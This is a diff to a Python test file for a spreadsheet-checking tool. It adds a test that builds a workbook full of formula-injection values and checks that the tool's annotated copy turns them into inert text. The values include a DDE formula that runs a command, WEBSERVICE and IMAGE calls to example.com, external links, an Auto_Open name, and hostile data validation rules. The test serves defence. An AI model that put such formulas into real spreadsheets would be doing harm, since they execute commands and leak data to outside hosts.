@@ -27,7 +27,11 @@ from urllib.parse import unquote
 
 import click
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.formula import ArrayFormula
 from PIL import Image
 
 import evalcheck
@@ -132,7 +136,7 @@ def test_annotate_gives_up_a_workbook_that_takes_too_long_and_lists_its_findings
     report = evalcheck.validate(tmp_path / "材料", as_of=DAY, unit="市税务局")
     given = replace(Limits(), cpu_seconds=0.3)
     (copy,) = annotate.annotated(report, open_submission([tmp_path / "材料"], given), RenderOptions(), given)
-    assert copy.marked == 0 and "处理器时间" in copy.message and copy.findings
+    assert copy.marked == 0 and "时间上限" in copy.message and copy.findings
 
 
 @linux
@@ -773,3 +777,62 @@ def test_ctrl_break_and_a_closed_window_end_the_program_by_the_door(monkeypatch:
         os.kill(os.getpid(), signal.SIGUSR1)
         until(lambda: False, 5)
     assert left.value.code == 128 + signal.SIGUSR1 and signal.getsignal(signal.SIGUSR1) is signal.SIG_DFL
+
+
+HOSTILE = (
+    "=cmd|'/c calc'!A0",
+    '=WEBSERVICE("http://example.com/"&A1)',
+    '=HYPERLINK("http://example.com","x")',
+    "=[1]Sheet1!A1",
+    "='[a.xlsx]S'!A1",
+    '=IMAGE("http://example.com/a.png")',
+    "=RTD(1)",
+    '=_xlfn.FILTERXML(1,"x")',
+    "=CALL(A1)",
+    "=Sheet1!A1+EXEC(A2)",
+    "='a|b'!A1",
+)
+ORDINARY = (
+    "=SUM(A1:A3)",
+    '=IF(A1>1,"是|[x]","http://")',
+    "='表 1'!A1+1",
+    "=ROUND(AVERAGE(A1:A2),2)",
+    "=_xlfn.XLOOKUP(A1,A2:A3,B2:B3)",
+    "=A1&B1",
+    "=-A1%",
+)
+
+
+def acting() -> bytes:
+    book = Workbook()
+    sheet = book.worksheets[0]
+    for row, formula in enumerate((*HOSTILE, *ORDINARY), 1):
+        sheet.cell(row, 1, formula)
+    sheet["B1"] = "见"
+    sheet["B1"].hyperlink = "http://example.com"
+    sheet["C1"] = ArrayFormula("C1:C2", "=WEBSERVICE(A1:A2)")
+    for name, text in (("Auto_Open", "Sheet!$A$1"), ("外部", "cmd|'/c calc'!A0"), ("范围", "Sheet!$A$1:$B$2")):
+        book.defined_names[name] = DefinedName(name, attr_text=text)
+    for formula in ('"是,否"', HOSTILE[1][1:]):
+        rule = DataValidation("list", formula1=formula)
+        rule.add("D1")
+        sheet.add_data_validation(rule)
+        sheet.conditional_formatting.add("A1:B2", FormulaRule([formula]))
+    stream = io.BytesIO()
+    book.save(stream)
+    return stream.getvalue()
+
+
+def test_a_copy_of_a_workbook_calls_nothing_and_computes_what_it_computed(tmp_path: Path) -> None:
+    stream = io.BytesIO()
+    annotate._opened(acting()).save(stream)
+    book = load_workbook(io.BytesIO(stream.getvalue()))
+    sheet = book.worksheets[0]
+    kinds = [(cell.value, cell.data_type) for (cell,) in sheet["A1:A99"] if cell.value is not None]
+    assert kinds == [(formula, "s") for formula in HOSTILE] + [(formula, "f") for formula in ORDINARY]
+    assert (sheet["C1"].value, sheet["C1"].data_type) == ("=WEBSERVICE(A1:A2)", "s")
+    assert sheet["B1"].value == "见" and sheet["B1"].hyperlink is None and list(book.defined_names) == ["范围"]
+    assert [one.formula1 for one in sheet.data_validations.dataValidation] == ['"是,否"']
+    assert [rule.formula for rules in sheet.conditional_formatting for rule in rules.rules] == [['"是,否"']]
+    with zipfile.ZipFile(io.BytesIO(stream.getvalue())) as packed:
+        assert not [name for name in packed.namelist() if b'TargetMode="External"' in packed.read(name)]
